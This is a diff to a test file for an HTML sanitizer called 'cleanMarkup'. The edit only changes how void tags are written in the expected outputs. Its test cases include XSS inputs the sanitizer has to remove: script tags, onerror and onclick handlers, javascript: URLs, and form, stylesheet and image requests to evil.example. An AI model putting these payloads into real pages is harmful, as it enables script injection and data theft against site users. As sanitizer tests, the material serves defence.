@@ -12,11 +12,11 @@ describe("cleanMarkup", () => {
     '<a class="button" href="/c/table/?offer=TEA15&amp;x=1#top">See</a>',
     '<a href="https://other.example/" target="_blank" rel="sponsored noopener">Out</a>',
     '<a href="mailto:shop@shop.example">Write</a><a href="tel:+4512345678">Call</a>',
-    '<picture><source srcset="a.avif 1x, b.avif 2x" type="image/avif" /><img src="a.jpg" alt="" width="520" height="360" loading="lazy" /></picture>',
-    '<figure><img src="data:image/png;base64,iVBORw0KGgo=" alt="A cup" /><figcaption>A cup</figcaption></figure>',
+    '<picture><source srcset="a.avif 1x, b.avif 2x" type="image/avif"><img src="a.jpg" alt="" width="520" height="360" loading="lazy"></picture>',
+    '<figure><img src="data:image/png;base64,iVBORw0KGgo=" alt="A cup"><figcaption>A cup</figcaption></figure>',
     '<video src="https://cdn.example/v.mp4" controls poster="p.jpg" width="640" height="360" playsinline muted></video>',
     '<table><caption>Prices</caption><thead><tr><th scope="col" colspan="2">Tea</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>',
-    '<form action="/newsletter" method="post"><label>E-mail <input type="email" name="email" required placeholder="you@example.com" /></label><button type="submit">Join</button></form>',
+    '<form action="/newsletter" method="post"><label>E-mail <input type="email" name="email" required placeholder="you@example.com"></label><button type="submit">Join</button></form>',
     '<form action="https://shop.example/join?x=1"><button>Join</button></form>',
     "<details open><summary>More</summary><ul><li>One</li></ul></details>",
     'Good to see you, {{ traits.firstName | default: "there" }}',
@@ -29,7 +29,7 @@ describe("cleanMarkup", () => {
   it.each([
     ["<script>alert(1)</script><p>a</p>", "<p>a</p>", "script was taken out"],
     ["<ScRiPt src=//evil.example></sCrIpT>a", "a", "script was taken out"],
-    ['<img src="a.jpg" onerror="alert(1)" alt="">', '<img src="a.jpg" alt="" />', "onerror of img was taken out"],
+    ['<img src="a.jpg" onerror="alert(1)" alt="">', '<img src="a.jpg" alt="">', "onerror of img was taken out"],
     ["<p ONCLICK=alert(1)>a</p>", "<p>a</p>", "onclick of p was taken out"],
     ['<a href="javascript:alert(1)">a</a>', "<a>a</a>", "href of a was taken out: javascript: is not allowed"],
     [
@@ -43,7 +43,7 @@ describe("cleanMarkup", () => {
       "href of a was taken out: an address holds no markup",
     ],
     ['<a href="data:text/html;base64,PHA+">a</a>', "<a>a</a>", "href of a was taken out: data: is not allowed"],
-    ['<img src="data:image/svg+xml,x" alt="">', '<img alt="" />', "src of img was taken out: data: is not allowed"],
+    ['<img src="data:image/svg+xml,x" alt="">', '<img alt="">', "src of img was taken out: data: is not allowed"],
     ['<iframe srcdoc="<script>alert(1)</script>"></iframe>a', "a", "iframe was taken out"],
     [
       '<p style="background:url(https://evil.example/x)">a</p>',
@@ -64,7 +64,7 @@ describe("cleanMarkup", () => {
     ['<link rel="stylesheet" href="https://evil.example/x.css">a', "a", "link was taken out"],
     [
       '<form action="https://evil.example/"><input name="a"></form>',
-      '<form><input name="a" /></form>',
+      '<form><input name="a"></form>',
       "action of form was taken out: a form is sent to the site itself",
     ],
     [
@@ -82,14 +82,14 @@ describe("cleanMarkup", () => {
       "<button>a</button>",
       "formaction of button was taken out",
     ],
-    ['<input type="password" name="p">', '<input name="p" />', "type of input was taken out: its value is not allowed"],
+    ['<input type="password" name="p">', '<input name="p">', "type of input was taken out: its value is not allowed"],
     ["a<img src='https://evil.example/?", "a", "a tag that does not end was taken out"],
     ['<p id="config">a</p>', "<p>a</p>", "id of p was taken out"],
     ['<p data-rfedge-slot="other">a</p>', "<p>a</p>", "data-rfedge-slot of p was taken out"],
     ['<p x-on:click="alert(1)" @click="a()">a</p>', "<p>a</p>", "x-on:click of p was taken out"],
     [
       '<img srcset="javascript:alert(1) 1x" alt="">',
-      '<img alt="" />',
+      '<img alt="">',
       "srcset of img was taken out: javascript: is not allowed",
     ],
     [
